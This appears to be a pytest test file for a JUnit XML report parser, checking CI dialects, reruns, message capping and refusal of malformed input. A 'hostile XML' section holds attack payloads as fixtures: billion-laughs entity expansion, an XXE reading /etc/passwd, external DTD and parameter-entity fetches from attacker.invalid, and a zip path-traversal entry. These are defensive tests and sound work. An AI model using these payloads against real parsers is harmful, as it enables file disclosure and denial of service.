"""JUnit reports in the dialects real CI writes, and hostile XML, through quartz.testresults.junit."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from quartz.testresults import junit
from quartz.testresults.junit import Case, ReportRefused, Suite, parse_report, read_artifact

FIXTURES = Path(__file__).parent / "fixtures" / "junit"


def parsed(name: str):
    return parse_report((FIXTURES / name).read_bytes(), name)


def by_name(report) -> dict[str, Case]:
    return {case.name: case for case in report.cases}


def zipped(files: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    return buffer.getvalue()


# --- dialects -------------------------------------------------------------------------------------------------


def test_pytest_counts_come_from_cases_with_failure_error_and_both_kinds_of_skip():
    report = parsed("pytest.xml")
    assert report.suites == (Suite("pytest", passed=2, failed=1, skipped=2, errors=1, time_s=12.345),)
    cases = by_name(report)
    assert cases["test_matmul_cuda_float16"] == Case(
        "pytest", "test.test_ops.TestOpsCUDA", "test_matmul_cuda_float16", "failed",
        "AssertionError: Tensor-likes are not close!\nMismatched elements: 3 / 64 (4.7%)", 0)
    assert cases["test_fixture_cuda"].outcome == "error"
    assert cases["test_fixture_cuda"].message == 'failed on setup with "RuntimeError: HIP error: out of memory"'
    assert cases["test_conv_cuda"].outcome == "skipped"
    assert cases["test_conv_cuda"].message == "no MIOpen on this runner"
    assert (cases["test_sort_cuda"].outcome, cases["test_sort_cuda"].message) == ("skipped", None)
    assert cases["test_mean_cuda[shape0-dim1]"].outcome == "passed"


def test_pytest_reruns_count_failed_attempts_and_a_pass_after_reruns_is_a_pass():
    report = parsed("pytest_reruns.xml")
    cases = by_name(report)
    flaky = cases["test_dropout_cuda"]
    assert (flaky.outcome, flaky.reruns, flaky.message) == ("passed", 1, "AssertionError: False is not true")
    broken = cases["test_ctc_loss_cuda"]
    assert (broken.outcome, broken.reruns) == ("failed", 2)
    assert cases["test_linear_cuda"].reruns == 0
    assert report.suites[0].passed == 2 and report.suites[0].failed == 1


def test_surefire_flaky_and_rerun_elements():
    report = parsed("surefire.xml")
    cases = by_name(report)
    assert (cases["testEvictConcurrent"].outcome, cases["testEvictConcurrent"].reruns) == ("passed", 1)
    assert cases["testEvictConcurrent"].message == "expected:<3> but was:<2>"
    assert (cases["testLoadTimeout"].outcome, cases["testLoadTimeout"].reruns) == ("passed", 2)
    assert (cases["testChecksum"].outcome, cases["testChecksum"].reruns) == ("failed", 2)
    assert cases["testChecksum"].message == "checksum mismatch for gfx950"
    assert (cases["testSetup"].outcome, cases["testSetup"].reruns) == ("error", 1)
    assert cases["testWindowsPaths"].outcome == "skipped"
    assert cases["testHit"] == Case("com.amd.rocm.KernelCacheTest", "com.amd.rocm.KernelCacheTest", "testHit",
                                    "passed", None, 0)
    assert report.suites == (Suite("com.amd.rocm.KernelCacheTest", 3, 1, 1, 1, 2.114),)


def test_googletest_skipped_and_disabled_without_a_child_element():
    report = parsed("gtest.xml")
    assert [s.name for s in report.suites] == ["HipMemcpyTest", "HipStreamTest"]
    assert report.suites[0] == Suite("HipMemcpyTest", passed=1, failed=1, skipped=1, errors=0, time_s=0.611)
    assert report.suites[1] == Suite("HipStreamTest", passed=1, failed=0, skipped=1, errors=0, time_s=0.231)
    cases = by_name(report)
    assert cases["Peer"].message.splitlines()[:2] == ["/src/tests/memcpy_test.cpp:64",
                                                      "Expected equality of these values:"]
    assert cases["Managed"].outcome == "skipped"
    assert cases["DISABLED_Priority"].outcome == "skipped"
    assert cases["DISABLED_Priority"].message == "disabled"


def test_googletest_skip_written_only_as_an_attribute():
    report = parse_report(b'<testsuites><testsuite name="S"><testcase name="t" classname="S" status="run" '
                          b'result="skipped"/></testsuite></testsuites>', "old-gtest.xml")
    assert (report.cases[0].outcome, report.cases[0].message) == ("skipped", "skipped")


def test_ctest_bare_testsuite_root_with_fail_notrun_and_disabled():
    report = parsed("ctest.xml")
    assert report.suites == (Suite("Linux-clang++", passed=1, failed=2, skipped=2, errors=0, time_s=14.0),)
    cases = by_name(report)
    assert (cases["rocblas_gemm"].outcome, cases["rocblas_gemm"].message) == ("failed", "Failed")
    assert (cases["rocblas_timeout"].outcome, cases["rocblas_timeout"].message) == ("failed", "Timeout")
    assert (cases["rocblas_mgpu"].outcome, cases["rocblas_mgpu"].message) == ("skipped", "Not Run")
    assert (cases["rocblas_legacy"].outcome, cases["rocblas_legacy"].message) == ("skipped", "disabled")


def test_nested_suites_in_suites_and_in_suites_lists_each_count_their_own_cases():
    report = parsed("nested.xml")
    assert report.suites == (
        Suite("hip-basic.device_query", 1, 0, 0, 0, 0.5),
        Suite("hip-basic.saxpy", 1, 1, 0, 0, 1.25),
        Suite("Libraries.rocRAND", 1, 0, 1, 0, 0.1),  # declares tests="1": the cases say 2
        Suite("Libraries.hipCUB", 0, 0, 0, 1, 0.3),  # time="not-a-number": the cases' times are summed
    )
    assert len(report.cases) == 6
    assert by_name(report)["poisson"].message is None


def test_declared_counts_are_not_trusted():
    report = parse_report(b'<testsuite name="s" tests="999" failures="500" errors="7" skipped="3">'
                          b'<testcase name="a"/><testcase name="b"><failure/></testcase></testsuite>', "x.xml")
    assert report.suites == (Suite("s", passed=1, failed=1, skipped=0, errors=0, time_s=0.0),)


def test_failure_wins_over_error_and_a_text_only_failure_gives_its_first_lines():
    report = parse_report(b'<testsuite name="s"><testcase name="a"><failure>line one\nline two</failure>'
                          b'<error message="teardown"/></testcase></testsuite>', "x.xml")
    assert report.cases[0].outcome == "failed"
    assert report.cases[0].message == "line one\nline two"


def test_a_test_written_twice_is_one_case_and_the_earlier_failure_a_rerun():
    report = parse_report(b'<testsuite name="s"><testcase classname="C" name="t"><failure message="boom"/>'
                          b'</testcase><testcase classname="C" name="t"/></testsuite>', "repeat.xml")
    assert report.cases == (Case("s", "C", "t", "passed", "boom", 1),)
    assert report.suites[0].tests == 1


def test_a_suite_without_a_name_is_named_after_its_file():
    report = parse_report(b"<testsuites><testsuite><testcase name='a'/></testsuite></testsuites>",
                          "shard-3/results.xml")
    assert report.suites[0].name == "results"
    assert report.cases[0].suite == "results"


def test_names_and_messages_are_capped_and_cleaned():
    long_name = "t" * 1000
    message = "#x1B[31mboom#x1B[0m\x85\x9b " + "x" * 5000 + "\n" + "\n".join(f"line {n}" for n in range(100))
    xml = (f'<testsuite name="s\x09uite"><testcase name="{long_name}" classname="c&#10;d">'
           f'<failure message="{message}"/></testcase></testsuite>')
    case = parse_report(xml.encode(), "x.xml").cases[0]
    assert len(case.name) == junit.NAME_CHARS and case.name.endswith("…")
    assert case.classname == "c"  # a name keeps its first line only
    assert case.message.startswith("boom x")
    assert len(case.message) <= junit.MESSAGE_CHARS
    assert "#x1B" not in case.message and "\x85" not in case.message and "\x9b" not in case.message
    many = parse_report(b'<testsuite name="s"><testcase name="t"><failure message="'
                        + "&#10;".join(f"line {n}" for n in range(100)).encode() + b'"/></testcase></testsuite>',
                        "x.xml").cases[0]
    assert many.message.splitlines() == [f"line {n}" for n in range(junit.MESSAGE_LINES)]


def test_a_report_with_too_many_cases_is_refused(monkeypatch):
    monkeypatch.setattr(junit, "MAX_CASES", 10)
    ten = "<testsuites>" + "".join(f"<testsuite name='s{n}'><testcase name='t'/></testsuite>" for n in range(10))
    assert len(parse_report((ten + "</testsuites>").encode(), "ok.xml").cases) == 10
    eleven = ten + "<testsuite name='s10'><testcase name='t'/></testsuite></testsuites>"
    with pytest.raises(ReportRefused, match="more than 10 test cases"):
        parse_report(eleven.encode(), "big.xml")  # refused before parsing, on the bytes
    utf16 = ('<?xml version="1.0" encoding="UTF-16"?>' + eleven).encode("utf-16")
    with pytest.raises(ReportRefused, match="more than 10 test cases"):
        parse_report(utf16, "big16.xml")  # the bytes do not show them: counted while reading the suites


def test_suites_nested_absurdly_deep_are_refused():
    xml = "<testsuite name='s'>" * 200 + "</testsuite>" * 200
    with pytest.raises(ReportRefused, match="nested more than"):
        parse_report(xml.encode(), "deep.xml")


@pytest.mark.parametrize("xml, reason", [
    (b"", "not well-formed"),
    (b"<testsuite", "not well-formed"),
    (b"<html><body>404</body></html>", "not a JUnit report"),
    (b'<?xml version="1.0" encoding="nonesuch"?><testsuite/>', "not"),
])
def test_what_is_not_a_report_is_refused(xml, reason):
    with pytest.raises(ReportRefused, match=reason):
        parse_report(xml, "x.xml")


# --- hostile XML ----------------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<testsuite name="&lol9;"><testcase name="t"/></testsuite>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuite name="s"><testcase name="t"><failure message="&xxe;"/></testcase></testsuite>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite SYSTEM "http://attacker.invalid/junit.dtd">
<testsuite name="s"><testcase name="t"/></testsuite>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE testsuite [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<testsuite name="s"/>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY],
                         ids=["billion-laughs", "xxe-etc-passwd", "external-dtd", "parameter-entity"])
def test_entities_and_dtds_are_refused(xml):
    with pytest.raises(ReportRefused, match="DTD"):
        parse_report(xml, "evil.xml")


def test_a_refusal_never_carries_file_contents():
    with pytest.raises(ReportRefused) as caught:
        parse_report(XXE, "evil.xml")
    assert "root:" not in caught.value.reason


# --- artifacts ------------------------------------------------------------------------------------------------


def test_read_artifact_keeps_good_reports_and_lists_the_bad_one_with_its_reason():
    data = zipped({
        "shard-1/junit.xml": (FIXTURES / "pytest.xml").read_bytes(),
        "shard-2/junit.xml": XXE,
        "shard-3/junit.XML": (FIXTURES / "gtest.xml").read_bytes(),
        "shard-3/output.log": "not a report",
        "__MACOSX/shard-1/._junit.xml": b"\x00\x05\x16\x07",
    })
    reports, refused = read_artifact(data)
    assert [r.source for r in reports] == ["shard-1/junit.xml", "shard-3/junit.XML"]
    assert [(r.source, "DTD" in r.reason) for r in refused] == [("shard-2/junit.xml", True)]


def test_read_artifact_refuses_a_hostile_archive_whole():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("good.xml", (FIXTURES / "ctest.xml").read_bytes())
        archive.writestr("../evil.xml", "<testsuite/>")
    with pytest.raises(ReportRefused, match="escapes the archive"):
        read_artifact(buffer.getvalue())


def test_the_simulators_reports_parse_with_the_failing_test_named():
    from quartz.devtools.simulator import JobSpec, World
    from quartz.devtools.simulator.downloads import TESTS_PER_JOB, artifact_zip

    world = World(dt.datetime(2026, 11, 1, tzinfo=dt.UTC), seed=4)
    world.add_repo("ROCm/pytorch")
    world.add_workflow("ROCm/pytorch", "ci.yml",
                       jobs=[JobSpec("build", 60), JobSpec("test (gfx942)", 60, failure_rate=1.0),
                             JobSpec("test (gfx950)", 60, failure_rate=0.0)],
                       artifacts=(("test-reports", 4096),))
    run = world.create_run("ROCm/pytorch", "ci.yml", "main")
    world.advance(dt.timedelta(hours=1))
    (art,) = world.artifacts(run)
    reports, refused = read_artifact(artifact_zip(world, run, art, 1))
    assert refused == []
    by_source = {r.source: r for r in reports}
    assert set(by_source) == {"test--gfx942/junit.xml", "test--gfx950/junit.xml"}
    failing = by_source["test--gfx942/junit.xml"]
    assert failing.suites == (Suite("pytest", TESTS_PER_JOB - 1, 1, 0, 0, 4.2),)
    (failed,) = [c for c in failing.cases if c.outcome == "failed"]
    assert failed.classname == "test.test_ops.TestOps" and failed.name.startswith("test_op_")
    assert failed.message == "RuntimeError: HIP error: invalid device function"
    green = by_source["test--gfx950/junit.xml"]
    assert green.suites[0].passed == TESTS_PER_JOB and green.suites[0].failed == 0


# --- properties -----------------------------------------------------------------------------------------------

_TAGS = ["testsuites", "testsuite", "testcase", "failure", "error", "skipped", "rerun", "flakyFailure",
         "rerunFailure", "system-out", "properties", "property", "other"]
_ATTRS = ["name", "classname", "time", "message", "status", "result", "tests", "failures"]


def _legal(text: str) -> str:
    return "".join(c for c in text if c in "\t\n\r" or " " <= c <= "\ud7ff" or "\ue000" <= c <= "\ufffd")


def _element(tag: str, attrs: dict[str, str], text: str, children: list[str]) -> str:
    rendered = " ".join(f"{key}={quoteattr(_legal(value))}" for key, value in attrs.items())
    return f"<{tag} {rendered}>{escape(_legal(text))}{''.join(children)}</{tag}>"


_attrs = st.dictionaries(st.sampled_from(_ATTRS), st.text(max_size=30), max_size=4)
_tree = st.recursive(
    st.builds(_element, st.sampled_from(_TAGS), _attrs, st.text(max_size=20), st.just([])),
    lambda children: st.builds(_element, st.sampled_from(_TAGS), _attrs, st.text(max_size=20),
                               st.lists(children, max_size=4)),
    max_leaves=12)
# Random trees of JUnit's vocabulary with random attribute values (weird times, control characters...).
junitish = st.builds(_element, st.sampled_from(_TAGS[:2]), _attrs, st.text(max_size=20), st.lists(_tree, max_size=4))


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.binary(max_size=300), st.text(max_size=300).map(lambda s: s.encode("utf-8", "surrogatepass"))))
def test_random_bytes_are_parsed_or_refused_never_crash(data):
    try:
        report = parse_report(data, "random.xml")
    except ReportRefused as exc:
        assert exc.reason
    else:
        assert all(case.outcome in junit.OUTCOMES for case in report.cases)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(junitish)
def test_random_junit_like_trees_parse_consistently(xml):
    try:
        report = parse_report(xml.encode("utf-8"), "tree.xml")
    except ReportRefused as exc:
        assert exc.reason
        return
    assert sum(s.tests for s in report.suites) == len(report.cases)
    for case in report.cases:
        assert case.outcome in junit.OUTCOMES and case.reruns >= 0
        assert len(case.name) <= junit.NAME_CHARS and "\n" not in case.name
        assert case.message is None or len(case.message) <= junit.MESSAGE_CHARS
    assert all(s.time_s >= 0 for s in report.suites)
